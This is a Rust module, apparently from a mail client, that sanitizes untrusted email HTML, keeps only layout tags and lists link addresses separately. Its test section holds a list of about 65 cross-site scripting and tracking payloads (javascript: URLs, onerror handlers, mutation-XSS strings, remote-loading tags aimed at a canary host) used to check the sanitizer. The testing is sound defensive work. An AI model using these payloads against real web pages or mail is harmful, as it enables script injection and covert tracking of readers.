//! The HTML of strangers, made safe to lay out: what is left can show words and tables, and do nothing else.
//!
//! It may not run, load, style, submit, navigate or name anything. Pictures are left out, since every one that is fetched tells
//! its sender that the mail was opened. Links lose their address, which is listed beside the page: what a link says and where it
//! leads are two things. Whoever shows it puts it into a frame without scripts all the same.
//!
//! Absent on purpose: the message's own plain words, which [`super::html::plain`] makes.

use std::collections::{HashMap, HashSet};
use std::convert::Infallible;

use ammonia::{Builder, UrlRelative};
use html5gum::{Token, Tokenizer};

/// Larger pages are shown as plain words.
const LIMIT: usize = 2 << 20;
/// Deeper ones as well: a browser may follow them into its own end.
const DEEPEST: usize = 256;
/// Links that are listed.
const LINKS: usize = 500;

/// A page without anything but words and their layout.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SafePage {
    /// A fragment of HTML.
    pub html: String,
    /// The addresses that its links had, each once, in their order: `http`, `https` and `mailto` alone.
    pub links: Vec<String>,
}

/// What may be shown of a page; `None` when it is too large or too deep to be laid out.
pub fn safe(html: &str) -> Option<SafePage> {
    if html.len() > LIMIT || is_too_deep(html) {
        return None;
    }
    Some(SafePage { html: without_links(html), links: links(html) })
}

/// Elements that lay words out.
const TAGS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "main",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];
/// Elements that go with all that is in them.
const WHOLE: &[&str] = &[
    "script",
    "style",
    "title",
    "template",
    "noscript",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "xmp",
    "noembed",
    "noframes",
    "plaintext",
    "textarea",
    "select",
    "option",
    "button",
    "audio",
    "video",
    "canvas",
    "head",
];

fn without_links(html: &str) -> String {
    strict(HashMap::from([("td", HashSet::from(["colspan", "rowspan"])), ("th", HashSet::from(["colspan", "rowspan"]))]))
        .clean(html)
        .to_string()
}

fn strict(attributes: HashMap<&'static str, HashSet<&'static str>>) -> Builder<'static> {
    let mut builder = Builder::empty();
    builder
        .tags(TAGS.iter().copied().collect())
        .clean_content_tags(WHOLE.iter().copied().collect())
        .generic_attributes(HashSet::from(["dir", "lang"]))
        .tag_attributes(attributes)
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(None)
        .strip_comments(true);
    builder
}

/// Where the links lead, of those that survive the same policy.
fn links(html: &str) -> Vec<String> {
    let kept = strict(HashMap::from([("a", HashSet::from(["href"]))])).clean(html).to_string();
    let mut links: Vec<String> = Vec::new();
    let Ok(()) = Tokenizer::new(&kept).try_for_each(|token| {
        let Ok(token) = token;
        if let Token::StartTag(tag) = token
            && let Some(address) = tag.attributes.get(b"href".as_slice())
        {
            let address = String::from_utf8_lossy(address).trim().to_owned();
            if links.len() < LINKS && !address.is_empty() && !links.contains(&address) {
                links.push(address);
            }
        }
        Ok::<(), Infallible>(())
    });
    links
}

/// Whether elements stand in each other deeper than anybody lays a mail out.
fn is_too_deep(html: &str) -> bool {
    const CHILDLESS: &[&[u8]] =
        &[b"br", b"hr", b"img", b"input", b"meta", b"link", b"col", b"area", b"base", b"source", b"wbr", b"embed", b"param", b"track"];
    // Paragraphs, list entries and cells may be left open, and are closed by the next of their sort.
    const CLOSED_BY_NEXT: &[&[u8]] = &[b"p", b"li", b"td", b"th", b"tr", b"dt", b"dd", b"option"];
    let mut open: HashMap<Vec<u8>, usize> = HashMap::new();
    let (mut depth, mut deepest) = (0_usize, 0);
    let Ok(()) = Tokenizer::new(html).try_for_each(|token| {
        let Ok(token) = token;
        match token {
            Token::StartTag(tag) if !CHILDLESS.contains(&&*tag.name.0) => {
                let n_open = open.entry(tag.name.to_vec()).or_default();
                if *n_open == 0 || !CLOSED_BY_NEXT.contains(&&*tag.name.0) {
                    *n_open += 1;
                    depth += 1;
                    deepest = deepest.max(depth);
                }
            }
            Token::EndTag(tag) => {
                if let Some(n_open) = open.get_mut(&*tag.name.0).filter(|n_open| **n_open > 0) {
                    *n_open -= 1;
                    depth -= 1;
                }
            }
            _ => {}
        }
        Ok::<(), Infallible>(())
    });
    deepest > DEEPEST
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Ways in which a page may try to run, load, style, submit or lead somewhere.
    const VECTORS: &[&str] = &[
        "<script>canary()</script>",
        "<SCRIPT src=//canary.example/x.js></SCRIPT>",
        "<scr<script>ipt>canary()</scr</script>ipt>",
        "<img src=x onerror=canary()>",
        "<img src='http://canary.example/p.gif' width=1 height=1>",
        "<img srcset='http://canary.example/a.png 1x, http://canary.example/b.png 2x'>",
        "<img src='cid:canary@example'>",
        "<img/src=`x`onerror=canary()>",
        "<svg onload=canary()><circle r=1></svg>",
        "<svg><script>canary()</script></svg>",
        "<svg><a xlink:href='javascript:canary()'><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=canary()></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary()&gt;\">",
        "<math href='javascript:canary()'>x</math>",
        "<a href='javascript:canary()'>x</a>",
        "<a href='JaVaScRiPt&colon;canary()'>x</a>",
        "<a href='java\nscript:canary()'>x</a>",
        "<a href='&#x6A;avascript:canary()'>x</a>",
        "<a href='data:text/html,<script>canary()</script>'>x</a>",
        "<a href='vbscript:canary()'>x</a>",
        "<a href='file:///canary'>x</a>",
        "<a href='//canary.example/x'>x</a>",
        "<a href='/canary'>x</a>",
        "<a href='#' ping='http://canary.example/'>x</a>",
        "<a href='#' onclick=canary() onmouseover='canary()'>x</a>",
        "<iframe src='http://canary.example/'></iframe>",
        "<iframe srcdoc='&lt;script&gt;canary()&lt;/script&gt;'></iframe>",
        "<frameset><frame src='http://canary.example/'></frameset>",
        "<object data='http://canary.example/x.swf'></object>",
        "<embed src='http://canary.example/x'>",
        "<applet code=canary></applet>",
        "<form action='http://canary.example/'><input name=a><button formaction='javascript:canary()'>go</button></form>",
        "<input autofocus onfocus=canary()>",
        "<meta http-equiv=refresh content='0;url=http://canary.example/'>",
        "<link rel=stylesheet href='http://canary.example/x.css'>",
        "<link rel=dns-prefetch href='//canary.example'>",
        "<base href='http://canary.example/'>",
        "<style>@import 'http://canary.example/x.css'; p { background: url(http://canary.example/y) }</style>",
        "<p style='background:url(http://canary.example/x)'>x</p>",
        "<p style='position:fixed;inset:0' class=canary id=canary>x</p>",
        "<table background='http://canary.example/x'><td background='http://canary.example/y'>x</td></table>",
        "<body background='http://canary.example/x' onload=canary()>x</body>",
        "<video src='http://canary.example/v' poster='http://canary.example/p' autoplay></video>",
        "<audio><source src='http://canary.example/a' onerror=canary()></audio>",
        "<blockquote cite='http://canary.example/'>x</blockquote>",
        "<q cite='javascript:canary()'>x</q>",
        "<details open ontoggle=canary()>x</details>",
        "<marquee onstart=canary()>x</marquee>",
        "<noscript><p title=\"</noscript><img src=x onerror=canary()>\"></noscript>",
        "<template><img src=x onerror=canary()></template>",
        "<textarea><img src=x onerror=canary()></textarea>",
        "<title><img src=x onerror=canary()></title>",
        "<xmp><img src=x onerror=canary()></xmp>",
        "<plaintext><img src=x onerror=canary()>",
        "<!--[if IE]><script>canary()</script><![endif]-->",
        "<!--><img src=x onerror=canary()>-->",
        "<?xml-stylesheet href='http://canary.example/x.css'?>",
        "<![CDATA[<img src=x onerror=canary()>]]>",
        "<p/onpointerenter=canary()>x",
        "<x:y xmlns:x='http://www.w3.org/1999/xhtml' onclick=canary()>x</x:y>",
        "<img src=\"x\u{0}\" onerror\u{0}=canary()>",
        "<div contenteditable draggable=true ondragstart=canary() tabindex=1 accesskey=x>x</div>",
        "<canvas><p onclick=canary()>x</p></canvas>",
        "<a href='https://ok.example/' target=_top rel=opener download>x</a>",
    ];

    /// Every element and attribute of a page, read by a tokenizer that is not the one that wrote it.
    fn parts(html: &str) -> Vec<String> {
        let mut parts = Vec::new();
        for token in Tokenizer::new(html) {
            let Ok(token) = token;
            match token {
                Token::StartTag(tag) => {
                    parts.push(String::from_utf8_lossy(&tag.name).into_owned());
                    parts.extend(tag.attributes.keys().map(|name| format!("@{}", String::from_utf8_lossy(name))));
                }
                Token::Comment(_) | Token::Doctype(_) => parts.push("!".to_owned()),
                _ => {}
            }
        }
        parts
    }

    #[test]
    fn nothing_that_runs_loads_styles_submits_or_leads_somewhere_is_left() {
        let may_stand: HashSet<String> =
            TAGS.iter().map(|tag| (*tag).to_owned()).chain(["@dir", "@lang", "@colspan", "@rowspan"].map(str::to_owned)).collect();
        for vector in VECTORS {
            for wrapped in
                [(*vector).to_owned(), format!("<p>before {vector} after</p>"), format!("<table><tr>{vector}<td>x</td></tr></table>")]
            {
                let page = safe(&wrapped).unwrap();
                for part in parts(&page.html) {
                    assert!(may_stand.contains(&part), "{part} is left of {wrapped}: {}", page.html);
                }
                assert!(page.links.iter().all(|link| link == "https://ok.example/"), "{wrapped}: {:?}", page.links);
                // What was made safe once is not made unsafe by being read again.
                assert_eq!(safe(&page.html).unwrap().html, page.html, "{wrapped}");
            }
        }
        assert!(VECTORS.len() >= 40);
    }

    #[test]
    fn words_tables_and_the_addresses_of_links_are_kept() {
        let page = safe(
            "<html><head><title>t</title></head><body><h1>Offer</h1><table><tr><td colspan=2 bgcolor=red>12 €</td></tr></table>\
             <p dir=rtl>see <a href='https://shop.example/a?b=1&amp;c=2'>here</a>, <a href='mailto:a@b.example'>write</a>, \
             <a href='https://shop.example/a?b=1&amp;c=2'>again</a></p></body></html>",
        )
        .unwrap();
        assert_eq!(
            page.html,
            "<h1>Offer</h1><table><tbody><tr><td colspan=\"2\">12 €</td></tr></tbody></table><p dir=\"rtl\">see <a>here</a>, <a>write</a>, <a>again</a></p>"
        );
        assert_eq!(page.links, ["https://shop.example/a?b=1&c=2", "mailto:a@b.example"]);
    }

    #[test]
    fn what_is_too_deep_or_too_large_is_not_laid_out() {
        assert!(safe(&"<div>".repeat(DEEPEST)).is_some());
        assert_eq!(safe(&"<div>".repeat(DEEPEST + 1)), None);
        assert_eq!(safe(&"<b><i>".repeat(100_000)), None);
        assert!(safe(&"<p>one<br><img>".repeat(2_000)).is_some(), "what closes itself is not deep");
        assert!(safe(&"<table><tr><td>x</table>".repeat(1_000)).is_some());
        assert_eq!(safe(&"x".repeat(LIMIT + 1)), None);
    }
}
